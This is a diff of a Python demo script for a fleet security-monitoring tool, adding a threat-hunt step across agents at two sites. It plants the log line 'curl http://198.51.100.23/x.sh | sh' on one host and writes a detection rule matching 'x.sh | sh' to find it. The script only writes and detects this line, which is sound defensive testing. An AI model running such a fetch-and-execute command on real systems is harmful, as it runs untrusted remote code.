@@ -2,15 +2,16 @@
 
 Five agents at two sites become members by tokens. Two operators sign what they shall run; the controller takes a good
 bundle through the rings, and brings back one that floods and an overlay that cuts the uplink, both at the canary.
-Then an analyst asks for disk space and fetches the events around an alert.
+Then an analyst asks for disk space, fetches the events around an alert, and hunts for what no rule knew at the time.
 Commands are printed without the options that name folders, the broker and its certificates.
 
-Ends with exit code 1 when a bad change reached more than the canary, or an event of evidence is missing.
+Ends with exit code 1 when a bad change reached more than the canary, or what was planted was not found.
 """
 
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import subprocess
 import sys
@@ -26,6 +27,8 @@ from tests.broker import Broker, free_port
 WORK = ROOT / "build" / "fleet"
 FLEET = "plants"
 AGENTS = {"vienna": ("vienna-1", "vienna-2"), "linz": ("linz-1", "linz-2", "linz-3")}
+PLANTED = "linz-2"
+"""Where somebody ran what no rule knew yet."""
 
 RULE = """\
 title: {title}
@@ -325,7 +328,7 @@ def main() -> None:
         until("all to be connected", lambda: all(host.status().get("uplink", {}).get("connected") for host in hosts))
         print("all agents are connected")
 
-        say("Friday: the disks of all hosts, and the events around an alert")
+        say("Friday: an alert, the events around it, and a hunt for what no rule knew")
         analyst = ("--key", "ann.pem", *centre.at_broker("ann"))
         centre.ask("fleet", "ask", "disk", "--group", "all", *analyst, shown="vedette fleet ask disk --group all")
         hosts[0].write("needle in the haystack")
@@ -336,6 +339,14 @@ def main() -> None:
         )  # fmt: skip
         if "needle in the haystack" not in done.stdout:
             sys.exit("the evidence lacks the event of the alert")
+
+        planted = next(host for host in hosts if host.name == PLANTED)
+        planted.write("curl http://198.51.100.23/x.sh | sh")
+        (WORK / "hunt.yml").write_text(
+            RULE.format(title="A download that is run", version=9, word="x.sh | sh", level="high")
+        )
+        found = until("the hunt to find it", lambda: hunted(centre, analyst), 60)
+        print(found, end="")
 
         say("The record of what was signed, asked, refused and undone")
         centre.vedette("fleet", "audit", "trust/audit.jsonl", shown="vedette fleet audit trust/audit.jsonl")
@@ -353,6 +364,14 @@ def landed(word: str) -> str:
         return ""
     table = pyarrow.dataset.dataset(folder, format="parquet").to_table(columns=["alert_id", "raw"])
     return next((row["alert_id"] for row in table.to_pylist() if word in (row["raw"] or "")), "")
+
+
+def hunted(centre: Centre, analyst: tuple[object, ...]) -> str:
+    """The output of a hunt over all hosts, once it names the planted line."""
+    words = ("fleet", "hunt", "hunt.yml", "--group", "all", "--since", "1h", "--reason", "case 17")
+    done = centre.ask(*words, *analyst)
+    shown = f"$ vedette fleet hunt hunt.yml --group all --since 1h --reason 'case 17'\n{done.stdout}"
+    return shown if re.search(rf"^{PLANTED} +done .* 1$", done.stdout, re.M) else ""
 
 
 if __name__ == "__main__":
